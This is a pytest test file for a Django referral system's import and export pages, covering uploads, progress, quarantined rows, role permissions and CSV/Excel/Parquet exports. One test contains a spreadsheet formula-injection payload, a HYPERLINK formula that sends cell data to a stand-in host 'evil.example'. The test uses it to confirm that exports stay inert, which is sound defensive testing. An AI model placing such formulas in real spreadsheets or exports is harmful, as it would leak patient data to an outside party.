"""The import and export pages: upload, sources, progress, the quarantine; exports by role."""

import csv
import io

import pyarrow.parquet as pq
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook

from refloop.core.models import AccessLogEntry
from refloop.interop.files.models import ImportRun, ImportSource, QuarantinedRow
from refloop.interop.files.services import import_run_process, import_start
from refloop.referrals.models import Referral
from tests import factories
from tests.files.conftest import csv_bytes, row
from tests.web.helpers import sign_in


def test_it_uploads_a_file_and_queues_its_import(
    client, intake, northside, django_capture_on_commit_callbacks
):
    sign_in(client, intake)
    upload = SimpleUploadedFile("export.csv", csv_bytes([row(1), row(2)]), "text/csv")
    with django_capture_on_commit_callbacks(execute=True) as callbacks:
        response = client.post(reverse("imports"), {"source": northside.pk, "file": upload})
    run = ImportRun.objects.get()
    assert response.status_code == 302 and response.url == reverse("imports_run", args=[run.pk])
    assert len(callbacks) == 1  # the task, queued after commit
    assert (run.status, run.created_by) == ("queued", intake)
    import_run_process(run_id=run.pk)  # what the worker does with it
    page = client.get(reverse("imports_run", args=[run.pk]))
    assert b"2 of 2 rows (100%)" in page.content
    progress = client.get(reverse("imports_run_progress", args=[run.pk])).json()
    assert progress["created"] == 2 and progress["status"] == "done"


def test_it_shows_progress_of_a_run_under_way(client, intake, northside):
    run = import_start(
        source_id=northside.pk,
        filename="x.csv",
        content=csv_bytes([row(n) for n in range(1, 5)]),
        actor=intake,
        queue=False,
    )
    ImportRun.objects.filter(pk=run.pk).update(status="running", rows_total=4, rows_done=2)
    page = sign_in(client, intake).get(reverse("imports_run", args=[run.pk]))
    assert b"2 of 4 rows (50%)" in page.content
    assert b'hx-trigger="every 2s"' in page.content
    ImportRun.objects.filter(pk=run.pk).update(rows_done=3)
    polled = client.get(reverse("imports_run_progress", args=[run.pk]), HTTP_HX_REQUEST="true")
    assert b"3 of 4 rows (75%)" in polled.content and b"Quarantine" not in polled.content


def test_it_lists_runs_in_a_fixed_number_of_queries(
    client, intake, northside, django_assert_max_num_queries
):
    for n in range(8):
        import_start(
            source_id=northside.pk,
            filename=f"{n}.csv",
            content=csv_bytes([row(n)]),
            actor=intake,
            queue=False,
        )
    sign_in(client, intake)
    # Session, user, roles, permissions, 2FA, alerts: 10; runs and sources: 3 whatever the count.
    with django_assert_max_num_queries(15):
        response = client.get(reverse("imports"))
    assert response.status_code == 200 and response.content.count(b"/imports/runs/") == 8


def test_it_corrects_a_quarantined_row_from_its_page(client, intake, northside):
    run = import_start(
        source_id=northside.pk,
        filename="x.csv",
        content=csv_bytes([row(1, Specialty="Podiatry")]),
        actor=intake,
        queue=False,
    )
    import_run_process(run_id=run.pk)
    quarantined = QuarantinedRow.objects.get()
    sign_in(client, intake)
    page = client.get(reverse("imports_run", args=[run.pk]))
    assert b"Podiatry" in page.content  # the reason names the value
    form = client.get(reverse("imports_row", args=[quarantined.pk]))
    assert b'value="Podiatry"' in form.content
    columns = list(quarantined.raw)
    data = {f"c{i}": quarantined.raw[c] for i, c in enumerate(columns)}
    data[f"c{columns.index('Specialty')}"] = "Ortho"
    response = client.post(reverse("imports_row", args=[quarantined.pk]), data)
    assert response.status_code == 302
    quarantined.refresh_from_db()
    assert quarantined.status == "reimported" and quarantined.referral.sender_reference == "NS-0001"
    assert AccessLogEntry.objects.filter(object_type="quarantined_row").count() >= 2


def test_it_dismisses_a_row_from_its_page(client, intake, northside):
    run = import_start(
        source_id=northside.pk,
        filename="x.csv",
        content=csv_bytes([row(1, RefID="")]),
        actor=intake,
        queue=False,
    )
    import_run_process(run_id=run.pk)
    quarantined = QuarantinedRow.objects.get()
    sign_in(client, intake)
    url = reverse("imports_row_dismiss", args=[quarantined.pk])
    assert client.post(url, {"reason": ""}).status_code == 400
    assert client.post(url, {"reason": "A test line"}).status_code == 302
    quarantined.refresh_from_db()
    assert (quarantined.status, quarantined.dismiss_reason) == ("dismissed", "A test line")


def test_it_lets_a_manager_but_not_intake_keep_sources(client, manager, intake, line):
    data = {
        "name": "Westside",
        "col_sender_reference": "Ref",
        "col_reason": "Why",
        "val_priority": "ASAP = urgent\nSTAT = stat",
        "date_formats": "%d/%m/%Y",
    }
    assert sign_in(client, intake).post(reverse("imports_source_new"), data).status_code == 403
    client.logout()
    response = sign_in(client, manager).post(reverse("imports_source_new"), data)
    assert response.status_code == 302
    source = ImportSource.objects.get(name="Westside")
    assert source.mapping["columns"] == {"sender_reference": "Ref", "reason": "Why"}
    assert source.mapping["values"] == {"priority": {"ASAP": "urgent", "STAT": "stat"}}
    assert source.mapping["date_formats"] == ["%d/%m/%Y"]
    page = client.get(reverse("imports_source", args=[source.pk]))
    assert b"ASAP = urgent" in page.content


def test_it_keeps_the_liaison_out_of_imports(client, liaison):
    assert sign_in(client, liaison).get(reverse("imports")).status_code == 403


# Exports ------------------------------------------------------------------------------------


@pytest.fixture
def referrals(line, clinician, intake):
    return [
        factories.referral(line=line, clinician=clinician, actor=intake, last_name=f"Exp{n}")
        for n in range(3)
    ]


def download(client, **params):
    response = client.get(reverse("imports_export"), params)
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return response, body


def test_it_exports_referrals_as_csv_with_patient_columns_and_logs_it(client, intake, referrals):
    response, body = download(sign_in(client, intake), dataset="referrals", format="csv")
    assert response.status_code == 200 and response.streaming
    rows = list(csv.DictReader(io.StringIO(body.decode())))
    assert len(rows) == 3
    assert {r["patient_last_name"] for r in rows} == {"Exp0", "Exp1", "Exp2"}
    assert rows[0]["number"] == referrals[0].number
    entry = AccessLogEntry.objects.get(action="export")
    assert (entry.object_type, entry.object_id, entry.user) == (
        "export:referrals",
        "3 rows",
        intake,
    )


def test_it_exports_events_as_excel(client, intake, referrals):
    response, body = download(sign_in(client, intake), dataset="events", format="xlsx")
    sheet = load_workbook(io.BytesIO(body), read_only=True).active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][:4] == ("referral", "kind", "from_state", "to_state")
    assert len(rows) - 1 == sum(r.events.count() for r in referrals)
    assert AccessLogEntry.objects.get(action="export").object_id == f"{len(rows) - 1} rows"


def test_it_exports_a_senders_text_as_text_never_as_a_formula(client, intake, line, clinician):
    """A reason typed on the public form like '=HYPERLINK(...)' must not become a live formula
    in the spreadsheet a manager opens."""
    formula = '=HYPERLINK("http://evil.example/?"&A2,"Open")'
    referral = factories.referral(line=line, clinician=clinician, actor=intake)
    Referral.objects.filter(pk=referral.pk).update(reason=formula, referrer_as_given="@SUM(1)")
    sign_in(client, intake)
    _, body = download(client, dataset="referrals", format="xlsx")
    sheet = load_workbook(io.BytesIO(body)).active
    header = [c.value for c in sheet[1]]
    reason = sheet.cell(row=2, column=header.index("reason") + 1)
    assert (reason.value, reason.data_type) == (formula, "s")
    _, body = download(client, dataset="referrals", format="csv")
    row = next(csv.DictReader(io.StringIO(body.decode())))
    assert (row["reason"], row["referrer_as_given"]) == ("'" + formula, "'@SUM(1)")


def test_it_exports_clocks_as_parquet(client, intake, referrals):
    response, body = download(sign_in(client, intake), dataset="clocks", format="parquet")
    table = pq.read_table(io.BytesIO(body))
    assert table.num_rows == 9  # three clocks each
    assert set(table.column("outcome").to_pylist()) <= {
        "on_track",
        "at_risk",
        "breached",
        "paused",
        "met",
        "missed",
        "ended",
    }
    assert str(table.schema.field("started_at").type) == "timestamp[us, tz=UTC]"


def test_it_filters_exports_by_state_and_service_line(client, intake, referrals):
    from refloop.referrals.services import referral_transition

    referral_transition(referral_id=referrals[0].pk, to_state="triage", actor=intake)
    other = factories.service_line(code="cardiology", name="Cardiology")
    factories.referral(line=other, actor=intake)
    sign_in(client, intake)
    _, body = download(client, dataset="referrals", format="csv", state="triage")
    assert [r["number"] for r in csv.DictReader(io.StringIO(body.decode()))] == [
        referrals[0].number
    ]
    _, body = download(client, dataset="referrals", format="csv", service_line=other.pk)
    assert len(list(csv.DictReader(io.StringIO(body.decode())))) == 1


def test_it_gives_a_liaison_aggregate_counts_only(client, liaison, referrals, line):
    sign_in(client, liaison)
    refused, _ = download(client, dataset="referrals", format="csv")
    assert refused.status_code == 403
    response, body = download(client, dataset="funnel", format="parquet")
    table = pq.read_table(io.BytesIO(body))
    assert table.column_names[:3] == ["month", "service_line", "received"]
    assert sum(table.column("received").to_pylist()) == 3
    assert not any("patient" in name for name in table.column_names)
    assert not AccessLogEntry.objects.filter(action="export").exists()
    assert Referral.objects.count() == 3


def test_it_offers_to_carry_on_with_a_stopped_run(
    client, intake, northside, django_capture_on_commit_callbacks
):
    run = import_start(
        source_id=northside.pk,
        filename="x.csv",
        content=csv_bytes([row(1)]),
        actor=intake,
        queue=False,
    )
    ImportRun.objects.filter(pk=run.pk).update(status="running", rows_total=1, lease_until=None)
    sign_in(client, intake)
    assert b"Carry on from row 0" in client.get(reverse("imports_run", args=[run.pk])).content
    with django_capture_on_commit_callbacks(execute=True) as callbacks:
        response = client.post(reverse("imports_run_resume", args=[run.pk]))
    assert response.status_code == 302 and len(callbacks) == 1
